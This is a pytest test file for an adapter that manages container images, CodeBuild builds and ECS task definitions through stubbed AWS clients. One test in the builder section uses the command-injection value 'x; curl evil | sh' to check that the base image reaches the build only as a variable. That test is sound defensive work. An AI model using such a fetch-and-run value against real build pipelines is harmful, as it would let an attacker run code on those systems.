"""The requests to ECR, CodeBuild and ECS for an image, and the results of their responses."""

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import boto3
import pytest
from botocore.exceptions import ReadTimeoutError
from botocore.stub import Stubber
from msgspec import Struct

from shared.adapters.images import EcrCodeBuildImages
from shared.adapters.task_definitions import family
from shared.ports import NotNow, Refused, Unavailable

URI = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/fleet-runner"
IMAGE = f"{URI}@sha256:0a"
DEFINITION = "arn:aws:ecs:eu-west-1:123456789012:task-definition/fleet-runner"
BUILD_ID = "fleet-runner-image:0a1b"


class Aws(Struct, kw_only=True):
    """The adapter, and the expected requests of its three clients."""

    images: EcrCodeBuildImages
    ecr: Stubber
    codebuild: Stubber
    ecs: Stubber


@pytest.fixture
def aws() -> Iterator[Aws]:
    clients: dict[str, Any] = {
        name: boto3.Session().client(
            name, region_name="eu-west-1", aws_access_key_id="k", aws_secret_access_key="s"
        )
        for name in ("ecr", "codebuild", "ecs")
    }
    stubs = {name: Stubber(client) for name, client in clients.items()}
    images = EcrCodeBuildImages(**clients, repository_uri=URI, project="fleet-runner-image")
    for stub in stubs.values():
        stub.activate()
    yield Aws(images=images, **stubs)
    for stub in stubs.values():
        stub.assert_no_pending_responses()
        stub.deactivate()
        stub.client.close()


# --- the registry --------------------------------------------------------------------------------


def test_an_image_is_looked_up_in_the_uris_registry_and_named_by_digest(aws: Aws) -> None:
    asked = {
        "registryId": "123456789012",
        "repositoryName": "team/fleet-runner",
        "imageIds": [{"imageTag": "base-1"}],
    }
    aws.ecr.add_response("describe_images", {"imageDetails": [{"imageDigest": "sha256:0a"}]}, asked)
    assert aws.images.find("base-1") == IMAGE


def test_an_image_that_is_not_there_counts_as_deleted(aws: Aws) -> None:
    gone = {"failureCode": "ImageNotFound", "failureReason": "Requested image not found"}
    asked = {
        "registryId": "123456789012",
        "repositoryName": "team/fleet-runner",
        "imageIds": [{"imageTag": "base-1"}],
    }
    aws.ecr.add_response("batch_delete_image", {"failures": [gone]}, asked)
    aws.images.delete("base-1")


def test_an_image_that_the_registry_keeps_is_refused_with_its_reason(aws: Aws) -> None:
    kept = {"failureCode": "ImageReferencedByManifestList", "failureReason": "referenced"}
    aws.ecr.add_response("batch_delete_image", {"failures": [kept]})
    told = r"base-1 was not deleted \(ImageReferencedByManifestList: referenced\)"
    with pytest.raises(Refused, match=told):
        aws.images.delete("base-1")


@pytest.mark.parametrize("uri", ["", "fleet-runner", "docker.io/library/ubuntu", f"{URI}:latest"])
def test_what_is_no_repository_is_refused_with_what_is_allowed(uri: str) -> None:
    with pytest.raises(ValueError, match=r"allowed: <account>\.dkr\.ecr\."):
        EcrCodeBuildImages(
            ecr=None, codebuild=None, ecs=None, repository_uri=uri, project="project"
        )


# --- the builder ---------------------------------------------------------------------------------


def test_a_build_is_told_of_tag_and_base_in_variables_alone(aws: Aws) -> None:
    base = "x; curl evil | sh"
    asked = {
        "projectName": "fleet-runner-image",
        "idempotencyToken": "fleet-runner-image-base-1-1",
        "environmentVariablesOverride": [
            {"name": "IMAGE_TAG", "value": "base-1", "type": "PLAINTEXT"},
            {"name": "BASE_IMAGE", "value": base, "type": "PLAINTEXT"},
        ],
    }
    link = "https://console.aws.amazon.com/cloudwatch/home?region=x#logEvent:group=null;stream=null"
    begun = {"id": BUILD_ID, "buildStatus": "IN_PROGRESS", "logs": {"deepLink": link}}
    aws.codebuild.add_response("start_build", {"build": begun}, asked)
    build = aws.images.build("base-1", base, "base-1-1")
    assert (build.build_id, build.status, build.log_url) == (BUILD_ID, "IN_PROGRESS", "")


def _phase(name: str, status: str, *contexts: dict[str, str]) -> dict[str, Any]:
    started = datetime(2026, 1, 1, tzinfo=UTC)
    shape = {"phaseType": name, "phaseStatus": status, "startTime": started}
    return shape | {"contexts": list(contexts)}


def test_a_failed_build_has_the_reason_of_the_phase_that_failed(aws: Aws) -> None:
    error = {"statusCode": "COMMAND_EXECUTION_ERROR", "message": "docker build: exit status 1"}
    phases = [
        _phase("PRE_BUILD", "SUCCEEDED", {"statusCode": "", "message": ""}),
        _phase("BUILD", "FAILED", error, {"statusCode": "", "message": ""}),
        _phase("POST_BUILD", "SUCCEEDED", {"statusCode": "", "message": "all is well"}),
        {"phaseType": "COMPLETED"},
    ]
    failed = {"id": BUILD_ID, "buildStatus": "FAILED", "phases": phases}
    failed["logs"] = {"deepLink": "https://logs.example/"}
    aws.codebuild.add_response("batch_get_builds", {"builds": [failed]}, {"ids": [BUILD_ID]})
    build = aws.images.check(BUILD_ID)
    assert build
    assert build.reason == "BUILD: docker build: exit status 1"
    assert build.log_url == "https://logs.example/"


# --- task definitions ----------------------------------------------------------------------------


def test_all_but_the_runners_image_stays_and_what_ecs_adds_is_left_out(aws: Aws) -> None:
    sidecar = {"name": "proxy", "image": "proxy:1", "essential": False}
    runner = {"name": "runner", "image": "none", "stopTimeout": 120, "readonlyRootFilesystem": True}
    kept = {
        "taskRoleArn": "arn:aws:iam::123456789012:role/task",
        "executionRoleArn": "arn:aws:iam::123456789012:role/execution",
        "networkMode": "awsvpc",
        "requiresCompatibilities": ["FARGATE"],
        "cpu": "256",
        "memory": "512",
        "runtimePlatform": {"cpuArchitecture": "ARM64", "operatingSystemFamily": "LINUX"},
        "ephemeralStorage": {"sizeInGiB": 40},
        "volumes": [],
    }
    described = kept | {
        "taskDefinitionArn": f"{DEFINITION}:3",
        "family": "fleet-runner",
        "revision": 3,
        "status": "ACTIVE",
        "registeredAt": datetime(2026, 1, 1, tzinfo=UTC),
        "registeredBy": "arn:aws:iam::123456789012:role/terraform",
        "compatibilities": ["EC2", "FARGATE"],
        "requiresAttributes": [{"name": "com.amazonaws.ecs.capability.task-eni"}],
        "containerDefinitions": [sidecar, runner],
    }
    tags = [{"key": "fleet", "value": "one"}, {"key": "aws:cloudformation:stack", "value": "x"}]
    aws.ecs.add_response(
        "describe_task_definition",
        {"taskDefinition": described, "tags": tags},
        {"taskDefinition": f"{DEFINITION}:3", "include": ["TAGS"]},
    )
    asked = kept | {
        "family": "fleet-runner-node-20-04-0a",
        "containerDefinitions": [sidecar, runner | {"image": IMAGE}],
        "tags": [{"key": "fleet", "value": "one"}],
    }
    made = {"taskDefinition": {"taskDefinitionArn": f"{DEFINITION}-node-20-04-0a:1"}}
    aws.ecs.add_response("register_task_definition", made, asked)
    made_arn = aws.images.register(f"{DEFINITION}:3", IMAGE, "node-20.04-0a")
    assert made_arn == f"{DEFINITION}-node-20-04-0a:1"


def test_a_base_without_the_runners_container_is_refused_with_those_it_has(aws: Aws) -> None:
    described = {
        "taskDefinitionArn": f"{DEFINITION}:3",
        "family": "fleet-runner",
        "containerDefinitions": [{"name": "web"}, {"name": "proxy"}],
    }
    aws.ecs.add_response("describe_task_definition", {"taskDefinition": described})
    with pytest.raises(Refused, match=r"no container 'runner'; it has: web, proxy"):
        aws.images.register(f"{DEFINITION}:3", IMAGE, "base-1")


@pytest.mark.parametrize("base", ["fleet-runner", "f" * 255])
def test_a_family_is_valid_and_ends_with_the_tag(base: str) -> None:
    name = family(base, "node-20.04-0a1b2c3d4e5f")
    assert name.startswith(base[:200])
    assert name.endswith("-node-20-04-0a1b2c3d4e5f")
    assert len(name) <= 255


# --- errors --------------------------------------------------------------------------------------


CALLS = {
    "describe_images": ("ecr", lambda images: images.find("base-1")),
    "start_build": ("codebuild", lambda images: images.build("base-1", "ubuntu", "t")),
    "batch_get_builds": ("codebuild", lambda images: images.check(BUILD_ID)),
    "stop_build": ("codebuild", lambda images: images.stop(BUILD_ID)),
    "describe_task_definition": (
        "ecs",
        lambda images: images.register(f"{DEFINITION}:3", IMAGE, "base-1"),
    ),
}


@pytest.mark.parametrize("operation", CALLS)
@pytest.mark.parametrize(
    ("code", "status", "error"),
    [
        ("ThrottlingException", 400, NotNow),
        ("LimitExceededException", 400, NotNow),
        ("AccountLimitExceededException", 400, NotNow),
        ("AccessDeniedException", 400, NotNow),
        ("ServerException", 500, Unavailable),
        ("ServerException", 400, Unavailable),
        ("SomethingNew", 503, Unavailable),
        ("InvalidInputException", 400, Refused),
        ("RepositoryNotFoundException", 400, Refused),
    ],
)
def test_each_refusal_is_of_the_kind_that_says_what_to_do_next(
    aws: Aws, operation: str, code: str, status: int, error: type[Exception]
) -> None:
    service, call = CALLS[operation]
    stub: Stubber = getattr(aws, service)
    stub.add_client_error(operation, code, "what they say", http_status_code=status)
    with pytest.raises(error, match=f"(?i)^{service}: .*what they say") as caught:
        call(aws.images)
    assert caught.type is error


@pytest.mark.parametrize("operation", CALLS)
def test_no_answer_leaves_open_whether_the_call_was_done(aws: Aws, operation: str) -> None:
    def fails(**_: Any) -> Any:
        raise ReadTimeoutError(endpoint_url="https://aws")

    service, call = CALLS[operation]
    setattr(getattr(aws, service).client, operation, fails)
    with pytest.raises(Unavailable, match=f"(?i)^{service}: .*timeout") as caught:
        call(aws.images)
    assert not isinstance(caught.value, NotNow)


def test_an_account_that_may_run_no_build_is_told_the_way_out(aws: Aws) -> None:
    """A new account's quota of concurrent builds may be 0, and a retry does not change that."""
    told = "Cannot have more than 0 builds in queue for the account"
    aws.codebuild.add_client_error("start_build", "AccountLimitExceededException", told)
    with pytest.raises(NotNow, match=told) as caught:
        aws.images.build("base-1", "ubuntu", "t")
    for remedy in ("quota of concurrent builds", "ask AWS for more", "image_builds = false"):
        assert remedy in caught.value.reason


def test_two_registrations_of_a_family_at_once_may_be_tried_again(aws: Aws) -> None:
    text = "Too many concurrent attempts to create a new revision of the specified family."
    described = {"family": "fleet-runner", "containerDefinitions": [{"name": "runner"}]}
    aws.ecs.add_response("describe_task_definition", {"taskDefinition": described})
    aws.ecs.add_client_error("register_task_definition", "ClientException", text)
    with pytest.raises(Unavailable, match="Too many concurrent"):
        aws.images.register(f"{DEFINITION}:3", IMAGE, "base-1")
